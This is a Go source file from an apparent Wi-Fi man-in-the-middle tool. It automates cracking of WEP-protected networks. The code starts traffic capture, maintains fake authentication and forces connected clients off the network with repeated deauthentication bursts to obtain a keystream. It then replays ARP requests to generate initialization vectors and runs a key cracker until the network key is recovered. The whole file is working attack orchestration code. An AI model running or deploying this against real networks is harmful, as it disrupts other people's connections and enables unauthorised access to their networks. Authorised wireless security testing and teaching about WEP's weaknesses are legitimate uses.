package attack

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/toramanemre/wifimitm/pkg/config"
	"github.com/toramanemre/wifimitm/pkg/model"
	"github.com/toramanemre/wifimitm/pkg/proc"
)

// keystreamSource is the capture-side view the keystream acquisition loop
// needs. *Capture implements it.
type keystreamSource interface {
	Results(ctx context.Context) ([]*model.WirelessAccessPoint, error)
	HasKeystream() bool
	XorPath() string
}

// deauthFunc sends one deauthentication burst to a station.
type deauthFunc func(ctx context.Context, iface model.WirelessInterface, st *model.WirelessStation, count int) error

// authAction is the single restart action taken per pass of the fake
// authentication wait loop.
type authAction int

const (
	authWait authAction = iota
	authAcquireKeystream
	authBackoffRestart
)

// nextAuthAction decides the per-pass reaction to the fake authentication
// flags. Keystream acquisition takes priority over the deauthentication
// backoff; at most one action fires per pass even when several conditions
// hold. A process that terminated without raising any flag is restarted the
// same way as a deauthenticated one.
func nextAuthAction(needsKeystream, deauthenticated, terminated bool) authAction {
	switch {
	case needsKeystream:
		return authAcquireKeystream
	case deauthenticated, terminated:
		return authBackoffRestart
	default:
		return authWait
	}
}

// WepAttacker orchestrates the attack on a WEP secured network: capture the
// target's traffic, keep a fake authentication alive (acquiring a keystream
// through deauthentication when the network demands shared key
// authentication), replay ARP requests to generate initialization vectors,
// and run the cracker until the key is recovered.
type WepAttacker struct {
	iface  model.WirelessInterface
	ap     *model.WirelessAccessPoint
	timing config.Timing
	logger *slog.Logger

	deauth deauthFunc
}

// NewWepAttacker creates an orchestrator for the target network. The
// interface must already be in monitor mode.
func NewWepAttacker(iface model.WirelessInterface, ap *model.WirelessAccessPoint, timing config.Timing, logger *slog.Logger) *WepAttacker {
	if logger == nil {
		logger = slog.Default()
	}
	return &WepAttacker{
		iface:  iface,
		ap:     ap,
		timing: timing,
		logger: logger,
		deauth: Deauthenticate,
	}
}

// Start runs the attack to completion. A target already cracked is skipped
// unless force is set; in that case nothing is spawned at all. Every wait
// loop observes ctx, bounded additionally by the configured deadline, so
// cancellation surfaces as an error instead of a hang. All four processes
// are cleaned on every exit path.
func (w *WepAttacker) Start(ctx context.Context, force bool) error {
	if !force && w.ap.Cracked() {
		w.logger.Info("network already cracked, skipping", "ap", w.ap.String())
		return nil
	}
	if w.timing.Deadline > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, w.timing.Deadline)
		defer cancel()
	}

	capture := NewCapture(w.iface, w.ap, w.timing.TerminateGrace, w.logger)
	if err := capture.Start(); err != nil {
		return err
	}
	defer capture.Clean()

	fakeauth := NewFakeAuthentication(w.iface, w.ap, w.timing.TerminateGrace, w.logger)
	if err := fakeauth.Start(); err != nil {
		return err
	}
	defer fakeauth.Clean()

	if err := sleep(ctx, w.timing.StartSettle); err != nil {
		return fmt.Errorf("fake authentication: %w", err)
	}
	if err := w.authenticate(ctx, capture, fakeauth); err != nil {
		return err
	}

	arpReplay := NewArpReplay(w.iface, w.ap, w.timing.TerminateGrace, w.logger)
	if err := arpReplay.Start(w.iface.MAC); err != nil {
		return err
	}
	defer arpReplay.Clean()

	// Give the capture time to register the replay stream.
	if err := sleep(ctx, w.timing.ReplaySettle); err != nil {
		return fmt.Errorf("arp replay: %w", err)
	}

	cracker := NewCracker(capture.CapPath(), w.ap, w.timing.TerminateGrace, w.logger)
	if err := cracker.Start(); err != nil {
		return err
	}
	defer cracker.Clean()

	if err := w.crack(ctx, capture, fakeauth, arpReplay, cracker); err != nil {
		return err
	}
	w.logger.Info("cracked", "ap", w.ap.String())

	// Reverse-dependency order; the deferred Cleans are idempotent.
	cracker.Stop()
	capture.Stop()
	arpReplay.Stop()
	fakeauth.Stop()
	return nil
}

// authenticate drives the fake authentication wait loop until association
// succeeds, reacting to the needs_keystream and deauthenticated flags with
// at most one restart action per pass.
func (w *WepAttacker) authenticate(ctx context.Context, capture *Capture, fakeauth *FakeAuthentication) error {
	for fakeauth.State() != proc.StateOK {
		if err := ctx.Err(); err != nil {
			return fmt.Errorf("fake authentication: %w", err)
		}
		fakeauth.Update()

		needsKeystream := fakeauth.Flag(FlagNeedsKeystream)
		deauthed := fakeauth.Flag(FlagDeauthenticated)
		terminated := fakeauth.State() == proc.StateTerminated

		switch nextAuthAction(needsKeystream, deauthed, terminated) {
		case authAcquireKeystream:
			fakeauth.ClearFlag(FlagNeedsKeystream)
			if err := w.acquireKeystream(ctx, capture); err != nil {
				return err
			}
			fakeauth.Clean()
			if err := fakeauth.Start(); err != nil {
				return err
			}

		case authBackoffRestart:
			fakeauth.ClearFlag(FlagDeauthenticated)
			fakeauth.Clean()
			w.logger.Debug("fake authentication backoff", "delay", w.timing.FakeAuthBackoff)
			if err := sleep(ctx, w.timing.FakeAuthBackoff); err != nil {
				return fmt.Errorf("fake authentication: %w", err)
			}
			if err := fakeauth.Start(); err != nil {
				return err
			}

		case authWait:
			if err := sleep(ctx, w.timing.AuthPollInterval); err != nil {
				return fmt.Errorf("fake authentication: %w", err)
			}
		}
	}
	return nil
}

// acquireKeystream deauthenticates the target's associated stations until
// the capture discloses a keystream file, then persists it onto the access
// point. Bounded by the configured number of rounds.
func (w *WepAttacker) acquireKeystream(ctx context.Context, src keystreamSource) error {
	w.logger.Debug("acquiring keystream through deauthentication")
	for round := 0; round < w.timing.DeauthRounds; round++ {
		if err := ctx.Err(); err != nil {
			return fmt.Errorf("keystream acquisition: %w", err)
		}
		aps, err := src.Results(ctx)
		if err != nil {
			return fmt.Errorf("keystream acquisition: %w", err)
		}
		var stations []*model.WirelessStation
		if len(aps) > 0 {
			stations = aps[0].Stations
		}
		if len(stations) == 0 {
			if err := sleep(ctx, w.timing.DeauthInterval); err != nil {
				return fmt.Errorf("keystream acquisition: %w", err)
			}
			continue
		}
		for _, st := range stations {
			if err := w.deauth(ctx, w.iface, st, w.timing.DeauthCount); err != nil {
				w.logger.Warn("deauthentication failed", "station", st.MAC, "error", err)
			}
			if err := sleep(ctx, w.timing.DeauthInterval); err != nil {
				return fmt.Errorf("keystream acquisition: %w", err)
			}
			if src.HasKeystream() {
				w.logger.Debug("keystream detected", "path", src.XorPath())
				return w.ap.SaveKeystream(src.XorPath())
			}
		}
	}
	return &RetryLimitError{Op: "keystream acquisition", Attempts: w.timing.DeauthRounds}
}

// crack polls all four processes until the key is recovered, logging state
// and statistics for diagnostics each pass.
func (w *WepAttacker) crack(ctx context.Context, capture *Capture, fakeauth *FakeAuthentication, arpReplay *ArpReplay, cracker *Cracker) error {
	for !w.ap.Cracked() {
		if err := ctx.Err(); err != nil {
			return fmt.Errorf("cracking: %w", err)
		}
		fakeauth.Update()
		arpReplay.Update()
		cracker.Update()
		capture.Update()

		w.logger.Debug("cracking progress",
			"fakeauth", fakeauth.State().String(),
			"arpreplay", arpReplay.State().String(),
			"cracker", cracker.State().String(),
			"arps", arpReplay.Stat(StatARPs),
			"sent", arpReplay.Stat(StatSent),
			"pps", arpReplay.Stat(StatPPS),
			"ivs", capture.IVSum(ctx),
		)
		if err := sleep(ctx, w.timing.PollInterval); err != nil {
			return fmt.Errorf("cracking: %w", err)
		}
	}
	return nil
}

// sleep pauses for d or until ctx is done, whichever comes first.
func sleep(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
